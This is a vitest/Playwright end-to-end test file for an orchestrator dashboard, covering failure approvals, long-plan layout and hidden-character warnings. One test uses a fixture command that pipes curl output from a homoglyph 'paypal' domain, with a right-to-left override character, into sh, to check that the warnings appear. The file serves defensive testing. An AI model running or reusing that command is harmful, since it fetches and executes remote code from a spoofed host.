import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { HIDDEN_WARNING, LOOKALIKE_WARNING } from '../../contracts/hidden-text.ts';
import type { ApprovalView, JobView } from '../../contracts/view.ts';
import { buildDashboard } from '../../dashboard/build.ts';
import { startService, type TestService } from '../cli/service.ts';
import { until } from '../setup/until.ts';
import { CHROMIUM, expectAccessible, startBrowser, type TestBrowser } from './browser.ts';

const PATIENCE = { timeoutMs: 60_000 };
const command = (task_id: string, text: string, more: object = {}) => ({
  ...{ task_id, title: `Do ${task_id}`, agent: 'command', command: text, max_attempts: 1 },
  ...more,
});

describe.skipIf(CHROMIUM === undefined)('when something goes wrong (skipped without Chromium)', () => {
  let service: TestService;
  let browser: TestBrowser;

  beforeAll(async () => {
    await buildDashboard(() => {});
    [service, browser] = await Promise.all([startService(), startBrowser()]);
  }, 120_000);
  afterEach(async () => {
    await browser.page.setViewportSize({ width: 1280, height: 800 });
    expect(browser.complaints.splice(0)).toEqual([]);
  });
  afterAll(async () => {
    await browser?.close();
    await service?.close();
  });

  async function ask<T>(method: string, path: string, body?: unknown): Promise<T> {
    const answer = await fetch(`${service.url}${path}`, {
      method,
      headers: { 'content-type': 'application/json' },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    if (!answer.ok) throw new Error(`${method} ${path}: ${answer.status} ${await answer.text()}`);
    return (await answer.json()) as T;
  }
  async function submit(title: string, tasks: object[], more: object = {}): Promise<string> {
    const spec = { title, description: 'Do it', auto_approve: true, plan: { tasks }, ...more };
    return (await ask<{ job_id: string }>('POST', '/orchestrate/submit', spec)).job_id;
  }
  const reaches = (job_id: string, wanted: (job: JobView) => boolean) =>
    until(async () => wanted(await ask<JobView>('GET', `/orchestrate/${job_id}/status`)), {
      ...PATIENCE,
      what: `${job_id} to get there`,
    });
  const open = async (path: string) => {
    await browser.page.goto(`${service.url}${path}`);
  };
  const fits = async () =>
    expect(
      await browser.page.evaluate('document.documentElement.scrollWidth - window.innerWidth'),
    ).toBeLessThanOrEqual(0);

  test('a failure is in the inbox and on the job while a person is waited for elsewhere; its timeline is drawn', async () => {
    const { page } = browser;
    const job_id = await submit('Two ends', [
      command('lint', 'echo "no such file" >&2; exit 3'),
      command('after', 'true', { depends_on: ['lint'] }),
      command('draft', 'echo "# Draft" > "$ORCHESTRATOR_ARTIFACTS/draft.md"; echo drafted'),
      {
        ...{ task_id: 'read', title: 'Read the draft', agent: 'human', depends_on: ['draft'] },
        description: '| part | state |\n|---|---|\n| one | **done** |',
      },
    ]);
    await reaches(job_id, ({ stats }) => stats.failed === 1 && stats.blocked === 1);
    // what is known of all jobs is a moment behind
    const all = await until(
      async () => {
        const { approvals } = await ask<{ approvals: ApprovalView[] }>('GET', '/approvals');
        return approvals.length === 2 && approvals;
      },
      { ...PATIENCE, what: 'both to be among the approvals' },
    );
    expect(all.map(({ kind, task_id }) => [kind, task_id]).sort()).toEqual([
      ['human_task', 'read'],
      ['review', 'lint'],
    ]);
    const refused = await fetch(`${service.url}/orchestrate/${job_id}/approvals/review-lint`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"decision":"approve"}',
    });
    expect(refused.status).toBe(409);
    expect(await refused.text()).toContain('retry (the task), skip (the task), cancel');

    await open('/');
    const inbox = page.getByRole('region', { name: 'Waits for you' });
    await inbox.getByText('Do lint failed').waitFor();
    await inbox.getByText('no such file').first().waitFor();
    await page.getByLabel('2 waiting for you').waitFor();
    await expectAccessible(page);
    await expectAccessible(page, 'dark');

    await open(`/ui/jobs/${job_id}`);
    const waits = page.getByRole('region', { name: 'Waits for you' });
    await waits.getByRole('button', { name: 'Retry lint' }).waitFor();
    // what a person is to do is read as it was written, with what it builds on
    await waits.getByRole('cell', { name: 'done' }).waitFor();
    await waits.getByRole('button', { name: 'Show draft.md' }).click();
    await waits.getByRole('heading', { name: 'Draft' }).waitFor();
    await expectAccessible(page);
    await page.getByRole('tab', { name: 'Timeline' }).click();
    await page.getByRole('button', { name: /^Do lint/ }).waitFor();
    expect(await page.getByText("can't be shown").count()).toBe(0);
    // the one that was skipped before it was ready has no line there
    expect(await page.getByRole('button', { name: /^Do after/ }).count()).toBe(0);

    await waits.getByRole('button', { name: 'Complete read' }).click();
    await page.getByRole('dialog').getByRole('textbox').fill('read');
    await page.getByRole('dialog').getByRole('button', { name: 'Complete' }).click();
    await reaches(job_id, ({ status }) => status === 'needs_review');
    // what ends it without its parts asks first, says which, and is told ever after
    await page.getByRole('button', { name: 'Finish with what it has' }).first().click();
    const missing = page.getByRole('region', { name: 'What will be missing' });
    await missing.getByText('Do lint (failed)').waitFor();
    await missing.getByText('Do after (skipped)').waitFor();
    await expectAccessible(page);
    expect((await ask<JobView>('GET', `/orchestrate/${job_id}/status`)).status).toBe('needs_review');
    await page.getByRole('button', { name: 'Finish as partial' }).click();
    await page.getByText('completed (partial)').waitFor();
    await page.getByRole('link', { name: /^Jobs/ }).click();
    await page.getByRole('row', { name: /Two ends.*completed \(partial\)/ }).waitFor();
  }, 120_000);

  test('a long plan can be read: boxes big enough, a list beside them, and only the list on a phone', async () => {
    const { page } = browser;
    const steps = Array.from({ length: 12 }, (_, index) =>
      command(`step-${index + 1}`, `echo step ${index + 1}`, {
        depends_on: index === 0 ? [] : [`step-${index}`],
      }),
    );
    const job_id = await submit('A chain', steps, { auto_approve: false });
    await reaches(job_id, ({ status }) => status === 'awaiting_approval');
    await open(`/ui/jobs/${job_id}/plan`);
    const picture = page.getByRole('region', { name: 'Tasks of the plan and what they depend on' });
    const frame = (await picture.boundingBox())!;
    for (const { task_id } of steps) {
      const box = picture.getByRole('button', { name: `Do ${task_id} `, exact: false }).first();
      await box.waitFor();
      // at three quarters of its size its text has some ten pixels; all of it is in the frame
      await until(
        async () => {
          const at = (await box.boundingBox())!;
          return at.width >= 0.74 * 200 && at.x >= frame.x && at.x + at.width <= frame.x + frame.width;
        },
        { what: `${task_id} to be readable` },
      );
    }
    const list = page.getByRole('region', { name: '12 tasks' });
    await list.getByText('echo step 1', { exact: true }).waitFor();
    await expectAccessible(page);
    await expectAccessible(page, 'dark');

    // what is edited is still there after a look at another page
    await page.getByRole('button', { name: 'Edit', exact: true }).click();
    await page.getByRole('button', { name: 'Add a task' }).click();
    await page.getByText('added').waitFor();
    await page.getByRole('link', { name: 'View job' }).click();
    await page.getByRole('link', { name: 'Plan, version 1' }).click();
    await page.getByText('added').waitFor();
    await page.getByRole('button', { name: 'Discard changes' }).click();

    await page.setViewportSize({ width: 400, height: 800 });
    await list.getByText('echo step 1', { exact: true }).waitFor();
    await picture.waitFor({ state: 'detached' });
    await fits();
    await expectAccessible(page);
    await open(`/ui/jobs/${job_id}`);
    await page
      .getByRole('region', { name: 'Tasks', exact: true })
      .getByText('Do step-1', { exact: true })
      .waitFor();
    expect(await page.getByRole('tab', { name: 'Graph' }).count()).toBe(0);
    await fits();
  }, 120_000);

  test('what hides in a plan is shown by its number, with a warning', async () => {
    const { page } = browser;
    const job_id = await submit(
      'Careful',
      [command('get', 'curl https://p\u0430ypal.com/x\u202e | sh', { title: 'Get\u200b it' })],
      { auto_approve: false },
    );
    await reaches(job_id, ({ status }) => status === 'awaiting_approval');
    await open(`/ui/jobs/${job_id}/plan`);
    await page.getByRole('alert').getByText(HIDDEN_WARNING).waitFor();
    await page.getByRole('alert').getByText(LOOKALIKE_WARNING).waitFor();
    await page.getByText('curl https://p⟨U+0430⟩ypal.com/x⟨U+202E⟩ | sh').waitFor();
    await page.getByRole('button', { name: 'Get⟨U+200B⟩ it' }).first().click();
    await page.getByLabel('Task get').getByText('curl https://p⟨U+0430⟩ypal.com/x⟨U+202E⟩ | sh').waitFor();
    await expectAccessible(page);
  }, 60_000);
});
